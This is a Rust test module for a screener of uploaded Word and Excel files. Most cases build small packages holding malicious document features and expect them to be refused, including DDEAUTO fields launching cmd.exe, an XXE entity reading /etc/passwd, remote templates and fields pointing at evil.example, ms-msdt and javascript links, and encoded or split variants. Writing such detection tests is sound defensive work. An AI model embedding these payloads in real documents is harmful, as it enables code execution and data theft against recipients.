//! Word and Excel: macros by type and by part, embedded objects, relations that lead elsewhere, fields that fetch.

use para11::reply::document::Refusal;

use super::archive::archive;
use super::{Case, refused, taken};

pub(super) const WORD: &str =
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
pub(super) const EXCEL: &str =
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";

fn types(main: &str, more: &str) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
         <Default Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/main.xml\" ContentType=\"{main}\"/>{more}</Types>"
    )
}

fn parts(types: &str, more: &[(&str, &[u8])]) -> Vec<u8> {
    let mut parts: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", b"<Relationships/>"),
        ("main.xml", b"<w:document xmlns:w=\"w\"/>"),
    ];
    parts.extend(more);
    archive(&parts)
}

/// A package whose main part is of this type, with more parts.
pub(super) fn package(main: &str, more: &[(&str, &[u8])]) -> Vec<u8> {
    parts(&types(main, ""), more)
}

fn related(kind: &str, target: &str, mode: &str) -> Vec<u8> {
    let list = format!(
        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r\" \
         Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}\" Target=\"{target}\" {mode}/></Relationships>"
    );
    package(WORD, &[("word/_rels/document.xml.rels", list.as_bytes())])
}

fn written(body: &str) -> Vec<u8> {
    let body = format!("<w:document xmlns:w=\"w\"><w:p>{body}</w:p></w:document>");
    package(WORD, &[("word/document.xml", body.as_bytes())])
}

fn wide(text: &str) -> Vec<u8> {
    let units = text.encode_utf16().flat_map(u16::to_le_bytes);
    [0xff, 0xfe].into_iter().chain(units).collect()
}

/// Letters written as numbers.
fn numbers(text: &str) -> String {
    text.bytes().map(|byte| format!("&#{byte};")).collect()
}

const ACTIVE: [&str; 10] = [
    "application/vnd.ms-word.document.macroEnabled.main+xml",
    "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
    "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    "application/vnd.ms-excel.template.macroEnabled.main+xml",
    "application/vnd.ms-excel.addin.macroEnabled.main+xml",
    "application/vnd.ms-excel.sheet.binary.macroEnabled.main",
    "application/vnd.ms-excel.macrosheet+xml",
    "application/vnd.ms-office.vbaProject",
    "application/vnd.openxmlformats-officedocument.oleObject",
    "application/vnd.ms-office.activeX+xml",
];

/// Parts that run, or hold what may.
const PARTS: [&str; 18] = [
    "word/vbaProject.bin",
    "word/vbaData.bin",
    "word/activeX/activeX1.xml",
    "word/embeddings/oleObject1.bin",
    "word/embeddings/a.ole",
    "xl/macrosheets/run.js",
    "a.exe",
    "a.dll",
    "a.scr",
    "a.hta",
    "a.lnk",
    "a.ps1",
    "a.vbs",
    "a.jar",
    "a.docm",
    "a.XLSM",
    "a.swf",
    "a.bat",
];

const EXTERNAL: &str = "TargetMode=\"External\"";

#[expect(clippy::too_many_lines, reason = "a list of cases")]
fn relations() -> Vec<Case> {
    let far = "https://evil.example/a";
    let cases = [
        ("attachedTemplate", far, EXTERNAL, Refusal::Linked),
        (
            "attachedTemplate",
            "file:////evil.example/share/a.dotm",
            EXTERNAL,
            Refusal::Linked,
        ),
        (
            "attachedTemplate",
            "\\\\evil.example\\share\\a.dotm",
            EXTERNAL,
            Refusal::Linked,
        ),
        (
            "attachedTemplate",
            "&#104;ttps://evil.example/a",
            EXTERNAL,
            Refusal::Linked,
        ),
        (
            "attachedTemplate",
            far,
            "TargetMode=\"&#69;xternal\"",
            Refusal::Linked,
        ),
        (
            "attachedTemplate",
            far,
            "TargetMode=\"external\"",
            Refusal::Linked,
        ),
        ("attachedTemplate", far, "", Refusal::Linked),
        ("image", far, EXTERNAL, Refusal::Linked),
        ("frame", far, EXTERNAL, Refusal::Linked),
        ("subDocument", far, EXTERNAL, Refusal::Linked),
        (
            "externalLinkPath",
            "file:///C:/a.xlsx",
            EXTERNAL,
            Refusal::Linked,
        ),
        (
            "hyperlink",
            "file:////evil.example/a",
            EXTERNAL,
            Refusal::Linked,
        ),
        (
            "hyperlink",
            "\\\\evil.example\\a",
            EXTERNAL,
            Refusal::Linked,
        ),
        (
            "hyperlink",
            "ms-msdt:/id PCWDiagnostic",
            EXTERNAL,
            Refusal::Linked,
        ),
        (
            "hyperlink",
            "javascript:alert(1)",
            EXTERNAL,
            Refusal::Linked,
        ),
        ("hyperlink", "vbscript:a", EXTERNAL, Refusal::Linked),
        (
            "oleObject",
            "mhtml:https://evil.example/a!x-usc:https://evil.example/a",
            EXTERNAL,
            Refusal::Active,
        ),
        ("oleObject", "embeddings/a", "", Refusal::Active),
        ("aFChunk", "a.html", "", Refusal::Active),
        ("control", "a.xml", "", Refusal::Active),
    ];
    let cases = cases.into_iter().enumerate();
    let cases = cases.map(|(number, (kind, target, mode, refusal))| {
        let what = format!("a relation of the kind {kind}, {number}");
        refused(&what, "a.docx", &related(kind, target, mode), refusal)
    });
    let sound = [
        (
            "a link to a page is followed by a person",
            "hyperlink",
            "https://www.un.org/AA/JS",
        ),
        (
            "a link to an address is followed by a person",
            "hyperlink",
            "mailto:unit@example.org",
        ),
        (
            "a template on the writer's own disk is not fetched",
            "attachedTemplate",
            "file:///C:\\Letters\\Letter.dotx",
        ),
    ];
    let sound =
        sound.map(|(why, kind, target)| taken(why, "a.docx", &related(kind, target, EXTERNAL)));
    cases.chain(sound).collect()
}

fn fields() -> Vec<Case> {
    let instruction =
        |text: &str| format!("<w:instrText xml:space=\"preserve\">{text}</w:instrText>");
    let begin = "<w:fldChar w:fldCharType=\"begin\"/>";
    let pieces = ["DD", "EAU", "TO c:\\\\cmd"].map(instruction).concat();
    let bodies = [
        (
            "DDEAUTO",
            instruction("DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\""),
        ),
        ("DDE", instruction(" dde a b")),
        ("DDEAUTO in pieces", format!("{begin}{pieces}")),
        ("DDEAUTO as numbers", instruction(&numbers("DDEAUTO a"))),
        (
            "a picture from elsewhere",
            instruction(" INCLUDEPICTURE \"https://evil.example/a.png\" \\d"),
        ),
        (
            "a text from elsewhere",
            instruction("INCLUDETEXT \"\\\\\\\\evil.example\\\\a\""),
        ),
        (
            "a link to a workbook",
            instruction("LINK Excel.Sheet.12 \"\\\\\\\\evil.example\\\\a.xlsx\""),
        ),
        (
            "a simple field",
            "<w:fldSimple w:instr=\" DDEAUTO a b\"/>".to_owned(),
        ),
    ];
    let bodies = bodies.map(|(what, body)| {
        let what = format!("a field, {what}");
        refused(&what, "a.docx", &written(&body), Refusal::Linked)
    });
    let page = taken(
        "a field that counts pages",
        "a.docx",
        &written(&format!("{begin}{}", instruction(" PAGE "))),
    );
    bodies.into_iter().chain([page]).collect()
}

#[expect(clippy::too_many_lines, reason = "a list of cases")]
pub(super) fn cases() -> Vec<Case> {
    let mut cases = vec![
        refused(
            "a workbook called docx",
            "a.docx",
            &package(EXCEL, &[]),
            Refusal::Content,
        ),
        refused(
            "a text called xlsx",
            "a.xlsx",
            &package(WORD, &[]),
            Refusal::Content,
        ),
        refused(
            "no list of types",
            "a.docx",
            &archive(&[("main.xml", b"<a/>")]),
            Refusal::Content,
        ),
        refused(
            "a list of types that is no XML",
            "a.docx",
            &parts("Types", &[]),
            Refusal::Content,
        ),
        refused(
            "a list of types in two bytes a letter",
            "a.docx",
            &archive(&[("[Content_Types].xml", &wide(&types(WORD, "")))]),
            Refusal::Content,
        ),
        refused(
            "a document type",
            "a.docx",
            &parts(
                &types(WORD, "").replace("<Types", "<!DOCTYPE a [<!ENTITY b \"c\">]><Types"),
                &[],
            ),
            Refusal::Content,
        ),
        refused(
            "a document type in a part",
            "a.docx",
            &package(
                WORD,
                &[(
                    "word/document.xml",
                    b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
                )],
            ),
            Refusal::Content,
        ),
        refused(
            "relations in two bytes a letter",
            "a.docx",
            &package(WORD, &[("word/_rels/a.rels", &wide("<Relationships/>"))]),
            Refusal::Content,
        ),
        refused(
            "a part in two bytes a letter",
            "a.docx",
            &package(WORD, &[("word/document.xml", &wide("<a/>"))]),
            Refusal::Content,
        ),
        refused(
            "a part in letters of seven bits",
            "a.docx",
            &package(
                WORD,
                &[(
                    "word/document.xml",
                    b"<?xml version='1.0' encoding='UTF-7'?><a/>",
                )],
            ),
            Refusal::Content,
        ),
        refused(
            "a picture with a script",
            "a.docx",
            &package(
                WORD,
                &[(
                    "word/media/a.svg",
                    b"<svg:svg><svg:script>alert(1)</svg:script></svg:svg>",
                )],
            ),
            Refusal::Active,
        ),
        refused(
            "a part that is cut",
            "a.docx",
            &package(WORD, &[("word/document.xml", b"<w:document")]),
            Refusal::Content,
        ),
        refused(
            "DDE in a workbook",
            "a.xlsx",
            &package(
                EXCEL,
                &[(
                    "xl/externalLinks/externalLink1.xml",
                    b"<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>",
                )],
            ),
            Refusal::Linked,
        ),
        refused(
            "data from elsewhere",
            "a.xlsx",
            &parts(
                &types(
                    EXCEL,
                    "<Override PartName=\"/c.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml\"/>",
                ),
                &[],
            ),
            Refusal::Linked,
        ),
        refused(
            "another workbook",
            "a.xlsx",
            &parts(
                &types(
                    EXCEL,
                    "<Override PartName=\"/c.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml\"/>",
                ),
                &[],
            ),
            Refusal::Linked,
        ),
        refused(
            "an old text with a password",
            "a.docx",
            &[&b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"[..], &[0; 600]].concat(),
            Refusal::Locked,
        ),
        refused(
            "an old workbook",
            "a.xlsx",
            &[&b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"[..], &[1; 600]].concat(),
            Refusal::Locked,
        ),
        taken(
            "what a printer was told is not run",
            "a.xlsx",
            &package(
                EXCEL,
                &[("xl/printerSettings/printerSettings1.bin", b"printer")],
            ),
        ),
    ];
    for kind in ACTIVE {
        let (last, hidden) = (kind.rsplit('/').next().unwrap(), numbers(kind));
        for (how, kind) in [("plainly", kind), ("as numbers", hidden.as_str())] {
            let more = format!("<Override PartName=\"/a\" ContentType=\"{kind}\"/>");
            let what = format!("the type {last} said {how}");
            cases.push(refused(
                &what,
                "a.docx",
                &parts(&types(WORD, &more), &[]),
                Refusal::Active,
            ));
        }
    }
    for part in PARTS {
        let what = format!("the part {part}");
        cases.push(refused(
            &what,
            "a.docx",
            &package(WORD, &[(part, b"content")]),
            Refusal::Active,
        ));
    }
    for (number, start) in [
        &b"MZ\x90\0"[..],
        b"\x7fELF\x02",
        b"#!/bin/sh\n",
        b"\xca\xfe\xba\xbe",
        b"\xcf\xfa\xed\xfe",
        b"\xd0\xcf\x11\xe0",
    ]
    .into_iter()
    .enumerate()
    {
        let what = format!("a program called a picture, {number}");
        cases.push(refused(
            &what,
            "a.xlsx",
            &package(EXCEL, &[("xl/media/a.png", start)]),
            Refusal::Active,
        ));
    }
    cases.extend(relations());
    cases.extend(fields());
    cases
}
